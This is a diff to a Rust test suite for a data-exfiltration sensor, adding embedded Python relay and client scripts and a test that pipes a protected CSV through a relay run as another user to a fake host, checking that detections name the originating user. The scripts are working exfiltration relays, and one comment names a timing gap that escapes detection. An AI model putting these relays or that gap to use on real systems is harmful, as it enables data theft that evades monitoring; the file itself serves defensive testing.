@@ -8,6 +8,7 @@
 
 use std::{
     fs,
+    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
     path::{Path, PathBuf},
     process::{Command, Stdio},
     sync::atomic::{AtomicU32, Ordering},
@@ -15,7 +16,9 @@ use std::{
     time::Duration,
 };
 
-use mnsensor_tests::{ChildGuard, Sensor, TempDir, get_str, get_u64, is, path_str, scaled, show, test_pid};
+use mnsensor_tests::{
+    ChildGuard, Sensor, TempDir, get_str, get_u64, is, path_str, scaled, show, test_pid, users::test_users,
+};
 use serde_json::Value;
 
 static NEXT: AtomicU32 = AtomicU32::new(0);
@@ -214,21 +217,41 @@ const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys
 /// unconnected socket.
 const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";
 
-/// `python3 relay.py SOCK HOST PORT`: accepts one unix-socket connection, reads it to the
-/// end with recv, and sends everything to HOST:PORT.
+/// `python3 relay.py KIND WHERE HOST PORT`: listens on a unix socket (KIND `unix`, WHERE a
+/// path, or `@name` for an abstract one) or on 127.0.0.1 (KIND `tcp`, WHERE the port),
+/// accepts one connection, reads it to the end with recv, and sends everything to HOST:PORT.
 const PY_RELAY: &str = "import socket, sys
-u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(1)
+kind, where = sys.argv[1], sys.argv[2]
+if kind == 'unix':
+    u = socket.socket(socket.AF_UNIX); u.bind(chr(0) + where[1:] if where[0] == '@' else where)
+else:
+    u = socket.socket(); u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); u.bind(('127.0.0.1', int(where)))
+u.listen(1)
 c, _ = u.accept()
 data = b''
 while True:
     b = c.recv(65536)
     if not b: break
     data += b
-o = socket.create_connection((sys.argv[2], int(sys.argv[3]))); o.sendall(data); o.close()
+o = socket.create_connection((sys.argv[3], int(sys.argv[4]))); o.sendall(data); o.close()
 ";
-/// `python3 client.py SOCK`: sends its stdin over a unix socket.
-const PY_UNIX_CLIENT: &str = "import socket, sys
-u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); u.sendall(sys.stdin.buffer.read()); u.close()
+/// `python3 client.py KIND WHERE`: connects to the relay (retrying until it listens) and
+/// sends its stdin in two halves, 0.2 s apart (see docs/detections.md, "Relays": a receiver
+/// that reads the data before the sender's call returns is not seen).
+const PY_CLIENT: &str = "import socket, sys, time
+kind, where = sys.argv[1], sys.argv[2]
+data = sys.stdin.buffer.read()
+for _ in range(200):
+    try:
+        if kind == 'unix':
+            u = socket.socket(socket.AF_UNIX); u.connect(chr(0) + where[1:] if where[0] == '@' else where)
+        else:
+            u = socket.create_connection(('127.0.0.1', int(where)))
+        break
+    except OSError:
+        time.sleep(0.05)
+half = len(data) // 2
+u.sendall(data[:half]); time.sleep(0.2); u.sendall(data[half:]); u.close()
 ";
 
 fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
@@ -285,10 +308,10 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     // A relay: the tainted client hands the data over a unix socket to another process,
     // which sends it out.
     let relay = s.outside.write("relay.py", PY_RELAY);
-    let client = s.outside.write("client.py", PY_UNIX_CLIENT);
+    let client = s.outside.write("client.py", PY_CLIENT);
     let sock = s.outside.join("relay.sock");
     let code = cg.run(&format!(
-        "python3 {relay} {sock} {ip} 9106 & while [ ! -S {sock} ]; do sleep 0.05; done; cat {file} | python3 {client} {sock}; wait",
+        "python3 {relay} unix {sock} {ip} 9106 & cat {file} | python3 {client} unix {sock}; wait",
         relay = path_str(&relay),
         client = path_str(&client),
         sock = path_str(&sock),
@@ -323,6 +346,54 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     // By now the untainted send has long been polled.
     thread::sleep(scaled(Duration::from_secs(2)));
     s.sensor.assert_none("detection for the untainted sender", exfil_to(9101));
+    s.sensor.stop();
+}
+
+#[test]
+fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9301, 9302]);
+    let users = test_users("relays_run_by_another_user", 1);
+    let relay_user = &users[0];
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    // The relay user reads the scripts: the directory is world-readable.
+    fs::set_permissions(s.outside.path(), fs::Permissions::from_mode(0o755)).expect("chmod outside");
+    let relay = s.outside.write("relay.py", PY_RELAY);
+    let client = s.outside.write("client.py", PY_CLIENT);
+    // The originating user: this test's own (cat runs as it).
+    let origin_uid = fs::metadata("/proc/self").expect("stat /proc/self").uid();
+    assert_ne!(origin_uid, relay_user.uid);
+    let listen_port = 19_000 + (test_pid() % 1000) as u16;
+    let abstract_name = format!("@mnsensor-relay-{}", test_pid());
+    for (kind, place, port) in [("unix", abstract_name, 9301), ("tcp", listen_port.to_string(), 9302)] {
+        let code = cg.run(&format!(
+            "setpriv --reuid={uid} --regid={gid} --clear-groups /usr/bin/python3 {relay} {kind} {place} {ip} {port} & \
+             cat {file} | python3 {client} {kind} {place}; wait",
+            uid = relay_user.uid,
+            gid = relay_user.gid,
+            relay = path_str(&relay),
+            client = path_str(&client),
+            ip = host.ip,
+            file = path_str(&file),
+        ));
+        assert_eq!(code, 0, "{kind} relay");
+        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{kind} relay delivered");
+        let d = s.sensor.wait_for(&format!("exfiltration through a {kind} relay"), exfil_to(port));
+        let what = format!("{kind} relay: {}", show(&d));
+        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
+        assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(relay_user.uid), "{what}");
+        assert_eq!(get_str(&d, "mnsensor.process.comm"), "python3", "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.taint.origin.user.id"), u64::from(origin_uid), "{what}");
+        assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then the relay's socket: {what}");
+    }
+    // The client's loopback connection is a hand-off, not egress.
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("detection for the loopback hop", exfil_to(listen_port));
     s.sensor.stop();
 }
 
